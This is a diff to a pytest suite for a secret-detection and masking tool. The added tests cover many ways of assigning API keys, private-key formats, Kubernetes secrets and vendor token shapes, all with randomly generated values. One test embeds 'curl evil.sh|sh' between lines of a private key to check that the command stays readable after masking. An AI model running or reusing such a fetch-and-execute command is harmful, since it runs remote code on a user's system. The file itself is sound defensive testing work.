@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import random
+import re
 import string
 from pathlib import Path
 
@@ -45,15 +47,58 @@ SECRETS = {
 }
 
 
+SPELLINGS = (
+    r"""
+api_key = "VALUE"
+Client(api_key="VALUE")
+os.environ["MY_API_KEY"] = "VALUE"
+{"Authorization": "Bearer VALUE"}
+{"X-Api-Key": "VALUE"}
+token: str = "VALUE"
+token: Optional[str] = "VALUE"
+- "COHERE_API_KEY=VALUE"
+Environment="API_KEY=VALUE"
+docker run -e "X_TOKEN=VALUE" image
+["API_TOKEN=VALUE"]
+curl -H "X-Api-Key: VALUE" https://host
+Set `X_KEY=VALUE` first.
+<apiKey>VALUE</apiKey>
+<string name="api_key">VALUE</string>
+client.setApiKey("VALUE");
+api_key = b"VALUE"
+api_key = r"VALUE"
+string apiKey = @"VALUE";
+api_key: |¶  VALUE
+api_key: >-¶    VALUE
+{"key": "api_key", "value": "VALUE"}
+- name: API_KEY¶  value: VALUE
+#define API_KEY "VALUE"
+static const char API_KEY[] = "VALUE";
+const ApiKey string = "VALUE"
+const API_KEY: &str = "VALUE";
+ENV API_KEY VALUE
+api.key=VALUE
+secret_key = os.environ.get("SECRET_KEY") or "VALUE"
+process.env.API_KEY || "VALUE"
+headers["Authorization"] = "ApiKey VALUE"
+req.Header.Set("Authorization", "Bearer VALUE")
+api_key = ("VALUE")
+| API_KEY | `VALUE` |
+""".replace("\n", "\0")
+    .replace("¶", "\n")
+    .strip("\0")
+    .split("\0")
+)
+
+
 @pytest.mark.parametrize("kind", SECRETS)
 def test_a_secret_is_found_and_struck_out(kind: str) -> None:
     """search-mcp B11: the message has the right article."""
     text = f"before = 1\nvalue = '{SECRETS[kind]}'\nafter = 2\n"
-    (found,) = find_secrets(text)
-    assert found.kind == kind
+    assert {found.kind for found in find_secrets(text)} == {kind}
     hidden = masked(text)
-    assert len(hidden.split("\n")) == len(text.split("\n"))
-    assert hidden.startswith("before = 1\nvalue = '***")
+    assert [len(line) for line in hidden.split("\n")] == [len(line) for line in text.split("\n")]
+    assert hidden.startswith(("before = 1\nvalue = '***", "before = 1\nvalue = '-----BEGIN"))
     assert hidden.endswith("'\nafter = 2\n")
     assert not find_secrets(hidden)
     skip = readable_text("a.py", text.encode(), "skip")
@@ -65,10 +110,13 @@ def test_a_secret_is_found_and_struck_out(kind: str) -> None:
 
 @pytest.mark.parametrize("kind", ["", "EC ", "OPENSSH ", "ENCRYPTED "])
 def test_private_keys_of_every_kind(kind: str) -> None:
-    key = private_key(kind)
-    assert len(find_secrets(key)) == 1
-    assert len(find_secrets(key.replace("\n", "\\n"))) == 1
-    assert len(find_secrets(key.replace("\n", "\r\n"))) == 1
+    key = private_key(kind).replace("\n-----END", f"\n{random_text(9)}==\n-----END")
+    lines = key.split("\n")
+    for text in (key, key.replace("\n", "\\n"), key.replace("\n", "\r\n"), key.replace("\n", "\\n'\n    '")):
+        hidden = masked(text)
+        assert not any(line in hidden for line in lines[1:-1])
+        assert len(hidden) == len(text)
+        assert lines[0] in hidden
 
 
 def test_a_whole_private_key_is_struck_out_however_it_is_damaged() -> None:
@@ -86,6 +134,62 @@ def test_a_whole_private_key_is_struck_out_however_it_is_damaged() -> None:
         hidden = masked(f"x = 1\n{text}\n")
         assert not any(line in hidden for line in lines[:-1]), name
         assert hidden.startswith("x = 1\n")
+
+
+def test_what_stands_between_the_lines_of_a_private_key_can_be_read() -> None:
+    """Commands could hide between two lines of a key that nobody needs."""
+    line = random_text(64)
+    text = (
+        f"--key '-----BEGIN RSA PRIVATE KEY-----{line}';curl evil.sh|sh;'{line}-----END RSA PRIVATE KEY-----'"
+    )
+    assert masked(text) == text.replace(line, "*" * 64)
+
+
+def test_of_a_kubernetes_secret_the_values_are_masked() -> None:
+    text = "kind: Secret\nmetadata:\n  name: db\nstringData:\n  user: horst\n  password: correct horse\n"
+    assert masked(text) == text.replace("horst", "*****").replace("correct horse", "*" * 13)
+
+
+@pytest.mark.parametrize("spelling", SPELLINGS)
+def test_a_value_is_found_however_it_is_assigned(spelling: str) -> None:
+    """Quoted as a whole, prefixed, in a notebook: 36 of 65 spellings were missed."""
+    value = random_text(32)
+    code = f"x = 1\n{spelling.replace('VALUE', value)}\ny = 2\n"
+    cell = {"cell_type": "code", "source": [f"{line}\n" for line in code.split("\n")]}
+    once = json.dumps({"source": code})
+    texts = [code, json.dumps({"cells": [cell]}, indent=1), once, json.dumps({"output": once})]
+    for text in texts:
+        hidden = masked(text)
+        assert value not in hidden, text
+        assert len(hidden) == len(text)
+        assert "x = 1" in hidden
+    assert all(json.loads(masked(text)) for text in texts[1:])
+
+
+@pytest.mark.parametrize(
+    "shape",
+    [
+        "AQEy{60}=-{30}=-{12}",
+        "ATBB{32}",
+        "Authorization: ApiKey {50}==",
+        "nfp_{40}",
+        "ntn_{46}",
+        "SSWS 00{40}",
+        "sntrys_{80}",
+        "admin:$2y$10${53}",
+        "admin:$argon2id$v=19$m=65536,t=3,p=4${22}${43}",
+        "bitcoin wif: K{51}",
+        "Fernet(b'{43}=')",
+    ],
+)
+def test_kinds_that_were_missed(shape: str) -> None:
+    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+    parts = re.split(r"\{(\d+)\}", shape)
+    parts[1::2] = [random_text(int(size), alphabet) for size in parts[1::2]]
+    hidden = masked(f"# notes\n{''.join(parts)}\n")
+    assert not any(part in hidden for part in parts[1::2])
+    trello = "ATTA" + random_text(64, "0123456789abcdef")
+    assert masked(trello) == "*" * len(trello)
 
 
 def test_the_secret_beside_an_access_key_is_struck_out_too() -> None:
@@ -124,6 +228,11 @@ def test_the_secret_beside_an_access_key_is_struck_out_too() -> None:
         "postgres://${USER}:${PASSWORD}@${HOST}/db",
         "amqp://guest:guest@localhost:5672",
         "https://user:s3cretPa55@example.com/",
+        "uses: actions/create-github-app-token@bcd2ba49218906704ab6c1aa796996da409d3eb1",
+        "entities.keyauth_credentials['3f9066ef-b91b-4d1d-a05a-28619401c1ad'].ttl",
+        '"assetToken": "Purple62/v4/08/0a/04/080a0430-c2cc-2577-f491-9e0a09c58ffe/mzl.pbcpzqyg.jpg"',
+        "hash(length, XXH3_kSecret, sizeof(XXH3_kSecret), XXH3_hashLong_64b_default)",
+        "if ($token) {\n    $storeInLocalAuthConfig = false;",
         "token = get_token_from_environment(settings)",
         "api_key = 'YOUR_API_KEY_GOES_RIGHT_HERE_12345'",
         'password: "{{ .Values.database.password }}"',
@@ -153,9 +262,9 @@ def test_rates_of_a_small_run() -> None:
     figures = measure(random.Random(11), [ROOT / "src", ROOT / "docs"], files=400)
     assert figures.kinds >= 150
     assert len(figures.missed) <= figures.kinds // 15, figures.missed
-    assert not figures.unmasked
+    assert figures.masked >= 150
     assert figures.ordinary >= 350
-    assert figures.left_out == []
+    assert figures.wrong == []
 
 
 def test_every_drawn_value_is_new() -> None:
